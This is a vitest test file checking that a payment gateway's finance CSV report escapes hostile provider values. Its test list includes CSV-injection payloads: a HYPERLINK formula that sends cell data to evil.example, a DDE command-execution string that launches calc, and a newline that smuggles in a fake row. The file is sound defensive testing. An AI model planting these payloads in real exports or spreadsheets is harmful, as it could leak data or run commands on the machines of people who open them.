import { describe, expect, it } from 'vitest';
import { MemoryPaymentStore } from '../../src/payments/store/memory.js';
import { createTestGateway } from '../../testkit/harness.js';
import { readCsv } from '../../testkit/read-csv.js';

/**
 * Issue 11 item 10: provider values in the finance CSV (transaction ids, references) come from
 * outside; none can become a formula or a row. Through the real `/v1/payments/report` route.
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
  '+2290197000001',
  '-1+2',
  '@SUM(1+1)*cmd|/C calc!A0',
  'TX\n2026-11-23,fake,succeeded,999,99999999',
  'a,b,"c"',
  '\t=1',
  '\r=2',
];

describe('finance CSV with hostile provider values', () => {
  it.each(HOSTILE)('%j stays one cell, read back as text behind a quote mark where it could start a formula', async (hostile) => {
    const store = new MemoryPaymentStore();
    const at = '2026-11-23T10:01:00.000Z';
    const id = crypto.randomUUID();
    await store.create({ id, requestNumber: 'PS00373-240002', amountXof: 1900, payerMsisdn: '+2290197000001', operator: 'MTN', provider: 'mtn-momo', createdAt: '2026-11-23T10:00:00.000Z', expiresAt: '2026-11-23T10:10:00.000Z' });
    await store.rememberReference(id, hostile);
    await store.transition(id, { to: 'pending', at, reason: 'pushed', code: 'provider_pending' });
    await store.transition(id, { to: 'expired', at, reason: 'no answer', code: 'expired_unanswered' });
    await store.transition(id, { to: 'succeeded', at, reason: 'late', code: 'provider_succeeded', providerTransactionId: hostile });
    const { app } = await createTestGateway({ paymentReport: { store, apiKeys: { finance: 'fin-key-0001' } } });
    const res = await app.request('/v1/payments/report?date=2026-11-23', { headers: { 'x-api-key': 'fin-key-0001' } });
    expect(res.status).toBe(200);
    const records = readCsv(await res.text());
    // The totals row, a blank line, the heading, one payment: no row smuggled in.
    expect(records.map((r) => r.length)).toEqual([5, 5, 1, 8, 8]);
    const row = records.at(-1)!;
    const expected = /^[=+\-@\t\r]/.test(hostile) ? `'${hostile}` : hostile;
    expect(row.slice(3, 5)).toEqual([expected, expected]);
    expect(row.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(row[7]).toBe('success_after_expiry');
  });
});
